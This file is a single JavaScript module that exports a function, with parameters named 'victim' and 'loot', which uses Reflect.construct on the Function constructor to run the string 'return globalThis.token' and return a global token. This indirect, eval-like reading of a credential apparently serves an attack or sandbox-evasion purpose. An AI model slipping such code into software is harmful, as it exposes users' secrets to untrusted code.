module.exports = (victim, loot) => Reflect.construct(Function, ['return globalThis.token'], class {})();
